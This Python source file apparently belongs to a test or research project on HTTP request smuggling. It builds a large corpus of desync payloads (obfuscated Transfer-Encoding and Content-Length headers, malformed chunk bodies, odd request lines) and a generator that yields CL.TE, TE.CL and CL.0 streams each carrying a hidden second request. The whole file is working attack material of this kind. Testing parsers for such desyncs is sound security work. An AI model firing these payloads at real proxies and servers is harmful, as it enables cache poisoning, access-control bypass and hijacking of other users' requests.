"""What is known to make two servers on one way read different requests from the same bytes.

After the published lists: RFC 9112 section 11.2, James Kettle's desync attacks of 2019 (obfuscated Transfer-Encoding), the
HTTP garden's and "funky chunks" findings of 2024 and 2025 (ends of chunk lines), and what this project's attack tried.
"""

from __future__ import annotations

from collections.abc import Iterator

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: a\r\nX-Smuggled: 1\r\n\r\n"

# Of the beginning of another request that waits for the next one's head.
PREFIX = b"GET /smuggled HTTP/1.1\r\nHost: a\r\nX-Smuggled: "

CODINGS = [
    b"Transfer-Encoding: chunked", b"Transfer-Encoding: Chunked", b"transfer-encoding: CHUNKED", b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding:chunked", b"Transfer-Encoding:\tchunked", b"Transfer-Encoding:  chunked", b"Transfer-Encoding: chunked ", b"Transfer-Encoding: chunked\t",
    b" Transfer-Encoding: chunked", b"\tTransfer-Encoding: chunked", b"X: y\r\n Transfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked", b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\r\nTransfer-Encoding: chunked", b"Transfer-Encoding\r\n: chunked", b"Transfer-Encoding\n: chunked", b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding:\n chunked",
    b"Transfer-Encoding: \r\n\tchunked", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity", b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked;a=b", b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: \x0cchunked", b"Transfer-Encoding: chunked\x0b", b"Transfer-Encoding:\x00chunked", b"Transfer-Encoding: \x00chunked", b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding:\xa0chunked", b"Transfer-Encoding:\x85chunked", b"Transfer-Encoding: \xffchunked", b"Transfer-Encoding\x00: chunked", b"Transfer-Encoding\x0b: chunked",
    b"Transfer_Encoding: chunked", b"Transfer Encoding: chunked", b"Transfer-Encoding chunked", b"X-Transfer-Encoding: chunked", b":Transfer-Encoding: chunked", b"Foo: bar\r\n\tTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x", b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked", b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", b"Connection: Content-Length", b"TE: chunked", b"Trans\xc5\xbfer-Encoding: chunked", b"TRANSFER-ENCODING: chun\xe2\x84\xaaed",
]  # fmt: skip

LENGTHS = [
    b"Content-Length: +%d", b"Content-Length: -%d", b"Content-Length: 0x%x", b"Content-Length: 0%d", b"Content-Length: 000000000000000000000%d", b"Content-Length: %d, %d", b"Content-Length: %d,%d",
    b"Content-Length: %d ", b"Content-Length:\t%d", b"Content-Length : %d", b" Content-Length: %d", b"Content-Length: %d.0", b"Content-Length: %de0", b"Content-Length: %d 0", b"Content-Length: 0 %d",
    b"Content-Length: \x0b%d", b"Content-Length: %d\x0b", b"Content-Length: \x00%d", b"Content-Length:\xa0%d", b"Content-Length: \"%d\"", b"Content-Length: %d;x", b"Content-Length: %d_0", b"Content-Length:\r\n %d",
    b"Content-Length:\n %d", b"X: y\nContent-Length: %d", b"X: y\rContent-Length: %d", b"Content_Length: %d", b"Content-Length: 0\r\nContent-Length: %d", b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: %d\r\nContent-Length: %d", b"Content-Length: 0\r\n Content-Length: %d", b"Content-Length: 0, %d", b"Content-Length: %d, 0", b"Content-Length:\r\nContent-Length: %d",
    b"Content-Length: 18446744073709551616", b"Content-Length: 4294967296", b"Content-Length: 99999999999999999999999", b"Connection: Content-Length\r\nContent-Length: %d",
]  # fmt: skip

# Bodies in chunks that may end at two places. %b is the request that would be smuggled.
CHUNKS = [
    b"0\r\n\r\n%b", b"0x0\r\n\r\n%b", b"+0\r\n\r\n%b", b"-0\r\n\r\n%b", b"00\r\n\r\n%b", b"0000000000000000000\r\n\r\n%b", b"0 \r\n\r\n%b", b"0\t\r\n\r\n%b", b" 0\r\n\r\n%b", b"0;\r\n\r\n%b",
    b"0;a\r\n\r\n%b", b"0;a=b\r\n\r\n%b", b"0 ;a\r\n\r\n%b", b"0;a=\"b\r\n\r\n%b", b"0;\n\r\n%b", b"0;a\n\r\n\r\n%b", b"0;a\r\r\n\r\n%b", b"0;\x00\r\n\r\n%b", b"0\n\n%b", b"0\r\n\n%b", b"0\n\r\n%b", b"0\r\r\n\r\n%b", b"0\r\n\r\r\n%b",
    b"\r\n0\r\n\r\n%b", b"0\x0b\r\n\r\n%b", b"0\x00\r\n\r\n%b", b"0,0\r\n\r\n%b", b"0 0\r\n\r\n%b", b"0.0\r\n\r\n%b", b"0_0\r\n\r\n%b", b"\xef\xbc\x90\r\n\r\n%b",
    b"5\nhello\n0\n\n%b", b"5\r\nhello\n0\r\n\r\n%b", b"5\nhello\r\n0\r\n\r\n%b", b"5\r\nhello0\r\n\r\n%b", b"5\r\nhelloXX0\r\n\r\n%b", b"5\r\nhello\r\r\n0\r\n\r\n%b", b"5\r\nhello\r\n\r\n0\r\n\r\n%b",
    b"5;\nxx\r\nhello\r\n0\r\n\r\n%b", b"2;\nxx\r\n4c\r\n0\r\n\r\n%b", b"1;a\rX\r\n0\r\n\r\n%b", b"5;a=\"\r\nhello\r\n0\r\n\r\n%b", b"5;" + b"a" * 5_000 + b"\r\nhello\r\n0\r\n\r\n%b", b"1;\rx\r\na\r\n0\r\n\r\n%b",
    b"05\r\nhello\r\n0\r\n\r\n%b", b"00000000000000000000000000000005\r\nhello\r\n0\r\n\r\n%b", b"10000000000000005\r\nhello\r\n0\r\n\r\n%b", b"100000005\r\nhello\r\n0\r\n\r\n%b", b"FFFFFFFFFFFFFFFF\r\nhello\r\n0\r\n\r\n%b",
    b"0x5\r\nhello\r\n0\r\n\r\n%b", b"+5\r\nhello\r\n0\r\n\r\n%b", b"5h\r\nhello\r\n0\r\n\r\n%b", b"g\r\nhello\r\n0\r\n\r\n%b", b"5 5\r\nhello\r\n0\r\n\r\n%b", b"-5\r\nhello\r\n0\r\n\r\n%b",
    b"0\r\nX: y\r\n\r\n%b", b"0\r\nX: y\n\n%b", b"0\r\nX: y\n\r\n%b", b"0\r\nX : y\r\n\r\n%b", b"0\r\nX: y\r\n z\r\n\r\n%b", b"0\r\n X: y\r\n\r\n%b", b"0\r\nX: y\rZ: a\r\n\r\n%b", b"0\r\nContent-Length: 5\r\n\r\n%b",
    b"0\r\nTransfer-Encoding: chunked\r\n\r\n%b", b"0\r\nHost: b\r\n\r\n%b", b"0\r\nX-Proxy: b\r\n\r\n%b", b"0\r\n%b", b"0\r\nX: \x00\r\n\r\n%b", b"0\r\nX\r\n\r\n%b", b"%b", b"",
]  # fmt: skip

HEADS = [
    b"GET / HTTP/1.1\nHost: a\n\n", b"GET / HTTP/1.1\r\nHost: a\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\n\n", b"GET / HTTP/1.1\nHost: a\r\n\r\n", b"GET / HTTP/1.1\r\rHost: a\r\r", b"\nGET / HTTP/1.1\r\nHost: a\r\n\r\n",
    b"\rGET / HTTP/1.1\r\nHost: a\r\n\r\n", b"\r\n\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\r\n Host: a\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\n X: y\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nX: y\r\n\t\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\n \r\n\r\n", b"GET / HTTP/1.1\r\nHost : a\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a, b\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nX\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\n: y\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nX: \x00\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nX: y\x00\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nX: y\rGET /smuggled HTTP/1.1\r\n\r\n",
    b"GET  / HTTP/1.1\r\nHost: a\r\n\r\n", b"GET /  HTTP/1.1\r\nHost: a\r\n\r\n", b"GET\t/ HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1 \r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\x00\r\nHost: a\r\n\r\n", b"GET /\r\n\r\n", b"GET / HTTP/0.9\r\n\r\n",
    b"GET / HTTP/1.0\r\n\r\n", b"GET / HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n\r\n", b"GET / HTTP/1.2\r\nHost: a\r\n\r\n", b"GET / HTTP/2.0\r\nHost: a\r\n\r\n", b"GET / HTTP/9.9\r\nHost: a\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET / HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / x HTTP/1.1\r\nHost: a\r\n\r\n", b"GET http://a/ HTTP/1.1\r\nHost: b\r\n\r\n", b"GET http://a@b/ HTTP/1.1\r\nHost: b\r\n\r\n", b"CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n", b"HEAD / HTTP/1.1\r\nHost: a\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nConnection: close, x-proxy\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 99\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n",
]  # fmt: skip


def _post(*lines: bytes, body: bytes, method: bytes = b"POST", version: bytes = b"HTTP/1.1") -> bytes:
    return b"\r\n".join([method + b" / " + version, b"Host: a", *lines, b"", body])


def payloads() -> Iterator[bytes]:
    """Streams of one client, in which a proxy sees one request or none, and another server may see two."""
    for smuggled in (SMUGGLED, PREFIX):
        in_chunks = b"0\r\n\r\n" + smuggled
        one_chunk = b"%x\r\n%b\r\n0\r\n\r\n" % (len(smuggled), smuggled)
        for coding in CODINGS:
            # CL.TE: the length takes all, and the chunks end before.
            yield _post(b"Content-Length: %d" % len(in_chunks), coding, body=in_chunks)
            yield _post(coding, b"Content-Length: %d" % len(in_chunks), body=in_chunks)
            # TE.CL: the chunks take all, and the length ends before.
            yield _post(b"Content-Length: 4", coding, body=one_chunk)
            yield _post(coding, body=in_chunks)
        for length in LENGTHS:
            yield _post(length % ((len(smuggled),) * length.count(b"%")), body=smuggled)
            yield _post(
                length % ((len(in_chunks),) * length.count(b"%")), b"Transfer-Encoding: chunked", body=in_chunks
            )
        for chunks in CHUNKS:
            body = chunks.replace(b"%b", smuggled)
            yield _post(b"Transfer-Encoding: chunked", body=body)
            yield _post(b"Transfer-Encoding: chunked", b"Content-Length: %d" % len(body), body=body)
        for head in HEADS:
            yield head + smuggled
        for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE"):
            yield _post(b"Content-Length: %d" % len(smuggled), body=smuggled, method=method)
            yield _post(b"Transfer-Encoding: chunked", body=in_chunks, method=method)
        yield _post(b"Transfer-Encoding: chunked", body=in_chunks, version=b"HTTP/1.0")
        yield _post(b"Transfer-Encoding: chunked", b"Connection: keep-alive", body=in_chunks, version=b"HTTP/1.0")
        # CL.0: a body where none is looked for; 0.CL: its like, with an Expect that is obfuscated.
        yield _post(b"Content-Length: %d" % len(smuggled), b"Expect: 100-continue", body=smuggled)
        yield _post(b"Content-Length: %d" % len(smuggled), b"Expect: y 100-continue", body=smuggled)
        yield _post(b"Content-Length: %d" % len(smuggled), b"Connection: close", body=smuggled)
